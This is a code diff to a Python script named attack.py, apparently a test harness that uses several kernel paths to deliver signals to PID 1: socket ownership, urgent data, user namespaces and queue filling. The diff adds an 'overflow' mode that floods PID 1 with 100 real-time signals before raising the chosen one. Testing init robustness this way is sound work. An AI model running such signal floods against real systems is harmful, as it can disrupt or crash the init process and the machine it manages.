@@ -7,6 +7,7 @@ usage: attack.py HOW SIGNAL...
   owner        PID 1 is made the owner of a socket: input on it raises the signal (F_SETOWN, F_SETSIG, O_ASYNC)
   io           the same without F_SETSIG: SIGIO, whatever SIGNAL is
   urgent       the same with urgent data: SIGURG, whatever SIGNAL is
+  overflow     the same as owner, after real-time signals of that kind have filled PID 1's queue
   namespace    by kill(2), from a user namespace that maps no id
   full:CODE    fills the signal queue of its uid first, then as queue:CODE; full:-6 is by tgkill(2)
 """
@@ -48,15 +49,16 @@ def connection():
     return sender, listener.accept()[0]
 
 
-def raise_by_socket(number, urgent):
+def raise_by_socket(number, urgent, times=1):
     sender, receiver = connection() if urgent else socket.socketpair()
     fcntl.fcntl(receiver, fcntl.F_SETOWN, 1)
     if number:
         fcntl.fcntl(receiver, F_SETSIG, number)
     if not urgent:
         fcntl.fcntl(receiver, fcntl.F_SETFL, os.O_ASYNC)
-    sender.send(b"x", socket.MSG_OOB if urgent else 0)
-    receiver.recv(1, socket.MSG_OOB if urgent else 0)
+    for _ in range(times):
+        sender.send(b"x", socket.MSG_OOB if urgent else 0)
+        receiver.recv(1, socket.MSG_OOB if urgent else 0)
 
 
 def attack(how, code, number):
@@ -67,7 +69,7 @@ def attack(how, code, number):
     elif how in ("queue", "full"):
         queue(1, number, code)
     else:
-        raise_by_socket(number if how == "owner" else 0, how == "urgent")
+        raise_by_socket(number if how in ("owner", "overflow") else 0, how == "urgent")
 
 
 with open("/proc/self/status") as status:
@@ -75,6 +77,8 @@ with open("/proc/self/status") as status:
 how, _, code = sys.argv[1].partition(":")
 if how == "full":
     fill()
+if how == "overflow":
+    raise_by_socket(signal.SIGRTMIN + 2, False, 100)
 if how == "namespace":
     call(UNSHARE, CLONE_NEWUSER)
 for number in map(int, sys.argv[2:]):
